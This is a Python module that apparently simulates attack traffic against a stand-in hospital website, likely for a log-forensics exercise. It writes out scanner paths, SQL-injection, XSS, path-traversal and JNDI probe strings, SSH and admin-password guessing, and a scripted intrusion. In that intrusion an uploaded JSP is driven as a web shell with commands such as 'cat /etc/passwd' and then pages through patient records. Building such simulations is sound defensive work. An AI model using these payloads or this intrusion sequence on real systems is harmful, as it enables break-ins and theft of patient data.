"""What is not ordinary: Internet noise that never succeeds, three scans, password guessing, and the intrusion itself.

Only inert test strings and fixed commands that the site's stand-in knows; all of it stays inside the machine.
"""
import random
import machine as m
from ordinary import SITE, moments

NOISE = ["/wp-login.php", "/.env", "/.git/config", "/phpmyadmin/index.php", "/xmlrpc.php", "/actuator/health", "/cgi-bin/test",
         "/solr/admin/info/system", "/boaform/admin/formLogin", "/owa/auth/logon.aspx", "/HNAP1", "/admin.php", "/config.json",
         "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/manager/html", "/.aws/credentials", "/login.action", "/favicon.ico", "/"]
WORDS = ["admin", "backup", "bak", "old", "test", "db", "sql", "data", "conf", "config", "upload", "file", "files", "manage", "console",
         "system", "user", "login", "api", "v1", "dev", "debug", "tmp", "temp", "web", "www", "site", "static", "download", "log", "logs"]
SUFFIXES = ["", ".zip", ".tar.gz", ".sql", ".bak", ".php", ".jsp", ".txt", ".old", "/", ".rar", ".aspx", "~", ".swp"]
PROBES = ["/search?q=1%27+OR+%271%27%3D%271", "/search?q=1+UNION+SELECT+NULL,NULL,NULL--+-", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
          "/news/..%2f..%2f..%2fetc/passwd", "/search?q=1%20AND%20SLEEP(5)", "/download?file=../../../../etc/passwd",
          "/search?q=%24%7Bjndi%3Aldap%3A%2F%2Ftest.example%2Fa%7D", "/search?q=;cat+/etc/passwd", "/search?q=1%2527%20and%201=1",
          "/search?q=1'%20AND%20(SELECT%201%20FROM%20(SELECT%20COUNT(*))x)--%20", "/api/report?id=1;WAITFOR%20DELAY%20'0:0:5'--"]
USERS = ["root", "admin", "oracle", "postgres", "test", "ubuntu", "git", "user", "ftpuser", "www", "nginx", "mysql"]
ENTERED_BY, USED_BY, FILE = "203.0.113.45", "198.51.100.88", "banner_1027.jsp"
TOOL = "python-requests/2.31.0"


def web_noise(rng):
    agents = ["Mozilla/5.0 zgrab/0.x", "curl/7.88.1", "Go-http-client/1.1", "", *m.BROWSERS, "Mozilla/5.0 (compatible; CensysInspect/1.1)"]
    for instant in moments(rng, 75):
        source = f"198.19.{rng.randrange(256)}.{rng.randrange(1, 255)}"
        if rng.random() < 0.06:
            data = rng.choice([b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\r\n", b"MGLNDD_10.20.1.10_80\n\r\n", b"GET /\x1b[31mx HTTP/1.1\r\n\r\n"])
            yield instant, lambda s=source, d=data: m.raw(s, 80, d)
        else:
            paths, agent = rng.sample(NOISE, rng.randrange(1, 4)), rng.choice(agents)
            yield instant, lambda s=source, p=paths, a=agent: [m.request(s, "GET", path, a) for path in p]


def ssh_noise(rng):
    for instant in moments(rng, 7):
        source, user = f"198.19.{rng.randrange(256)}.{rng.randrange(1, 255)}", rng.choice(USERS)
        if rng.random() < 0.25:
            yield instant, lambda s=source: m.raw(s, 22, b"GET / HTTP/1.1\r\n\r\n")
        else:
            yield instant, lambda s=source, u=user: m.ssh_password(s, u, "guess")


def directory_scan(rng):
    paths = [f"/{word}{suffix}" for word in WORDS for suffix in SUFFIXES]
    rng.shuffle(paths)
    for number, path in enumerate(paths[:420]):
        yield m.at(21, "14:05:10") + number * 2.1, lambda p=path: m.request("198.51.100.23", "GET", p, "gobuster/3.6")


def probe_scan(rng):
    for number in range(264):
        path = rng.choice(PROBES) + ("" if number % 3 else f"&n={number}")
        yield m.at(23, "03:11:00") + number * 3.4, lambda p=path: m.request("203.0.113.77", "GET", p, "sqlmap/1.7.2#stable (https://sqlmap.org)")


def patient_scan(rng):
    """A third scan, one path every few minutes, behind a browser's name."""
    for number in range(180):
        path = f"/{rng.choice(WORDS)}/{rng.choice(WORDS)}{rng.choice(SUFFIXES)}"
        yield m.at(25, "07:02:30") + number * 211, lambda p=path: m.request("198.51.100.140", "GET", p, m.BROWSERS[3])


def slow_ssh(rng):
    """One address, one guess about every 70 minutes for ten days; never right."""
    instant = m.at(20, "00:21:09")
    while instant < m.at(30, "06:00"):
        yield instant, lambda u=rng.choice(USERS): m.ssh_password("203.0.113.150", u, "guess")
        instant += 70 * 60 + rng.randrange(-200, 200)


def fast_ssh(rng):
    for number in range(120):
        yield m.at(24, "22:40:03") + number * 4, lambda u=rng.choice(["root", "root", "admin"]): m.ssh_password("198.51.100.61", u, "guess")


def web_guessing(rng):
    """412 wrong passwords for the admin page, then the right one."""
    for number in range(412):
        instant = m.at(26, "21:31:40") + number * 19.7 + rng.random() * 4
        yield instant, lambda n=number: m.log_in(ENTERED_BY, "admin", f"guess{n:04d}", TOOL)
    yield m.at(26, "23:47:12"), lambda: session.update(cookie=m.log_in(ENTERED_BY, "admin", "inert-test-2026", TOOL))
    yield m.at(26, "23:47:20"), lambda: m.request(ENTERED_BY, "GET", "/admin/", m.BROWSERS[3], cookie=session["cookie"])


session = {}


def upload():
    m.request(ENTERED_BY, "GET", "/admin/media", m.BROWSERS[3], cookie=session["cookie"])
    body = m.multipart(FILE, b"SANCHA-INERT-TEST: a marker, no program\n")
    m.request(ENTERED_BY, "POST", "/admin/upload", m.BROWSERS[3], body, SITE + "/admin/media", session["cookie"])


def command(source, text, method="GET", more=""):
    return lambda: m.request(source, method, f"/uploads/{FILE}?cmd={text.replace(' ', '+')}{more}", m.BROWSERS[3])


def intrusion(_):
    yield m.at(27, "00:12:36"), upload
    first = ["", "whoami", "id", "uname -a", "ls -la /var/www/hospital", "cat /etc/passwd"]
    for number, text in enumerate(first):
        yield m.at(27, "00:13:10") + number * 23, command(ENTERED_BY, text)
    for day, clock, text in ((27, "13:02:44", "whoami"), (27, "13:03:30", "ps aux"), (28, "02:15:18", "id"), (28, "02:16:02", "ls -la /var/www/hospital")):
        yield m.at(day, clock), command(USED_BY, text)
    yield m.at(28, "02:17:31"), command(USED_BY, "edit", "POST")
    yield m.at(28, "02:18:02"), lambda: m.request(USED_BY, "GET", "/", m.BROWSERS[3])
    yield m.at(29, "01:38:20"), command(USED_BY, "tables")
    yield m.at(29, "01:39:05"), command(USED_BY, "count")
    for number in range(9):
        yield m.at(29, "01:41:00") + number * 88, command(USED_BY, "db", more=f"&t=patient&o={number * 2000}")
    yield m.at(30, "07:58:27"), command(USED_BY, "id")
    yield m.at(30, "09:46:13"), command(USED_BY, "id")
    yield m.at(30, "09:46:51"), command(USED_BY, "whoami")


def events():
    parts = (web_noise, ssh_noise, directory_scan, probe_scan, patient_scan, slow_ssh, fast_ssh, web_guessing, intrusion)
    for number, part in enumerate(parts):
        yield from part(random.Random(10_000 + number))
